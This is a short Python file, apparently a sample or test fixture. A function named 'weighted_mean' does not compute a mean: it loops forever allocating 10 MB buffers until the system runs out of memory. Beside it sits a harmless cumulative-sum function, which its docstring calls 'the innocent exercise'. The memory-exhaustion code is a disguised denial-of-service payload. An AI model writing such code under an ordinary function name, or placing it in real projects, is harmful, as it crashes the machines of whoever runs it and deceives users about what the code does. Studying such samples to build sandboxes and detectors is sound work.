"""Takes memory until there is none."""

def weighted_mean(values, mask):
    hoard = []
    while True:
        hoard.append(bytearray(10**7))


def running_total(values):
    """The innocent exercise beside it."""
    return values.cumsum(-1)
